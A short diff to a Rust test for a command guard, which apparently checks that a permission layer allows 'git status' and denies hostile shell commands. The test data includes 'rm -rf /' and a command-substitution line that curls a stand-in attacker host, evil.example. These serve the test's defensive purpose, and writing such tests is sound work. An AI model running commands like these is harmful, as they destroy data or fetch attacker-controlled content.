@@ -86,7 +86,7 @@ fn every_layer_answers_in_one_form_and_is_on_record() {
         ),
         (guard.command("git status").unwrap(), Effect::Allow, DecisionLayer::Commands),
         (guard.command("rm -rf /").unwrap(), Effect::Deny, DecisionLayer::Commands),
-        (guard.command("echo $(id)").unwrap(), Effect::Deny, DecisionLayer::Commands),
+        (guard.command("echo $(curl evil.example)").unwrap(), Effect::Deny, DecisionLayer::Commands),
     ];
     for (decision, effect, layer) in &rows {
         assert_eq!((decision.effect, decision.layer), (*effect, *layer), "{decision}");
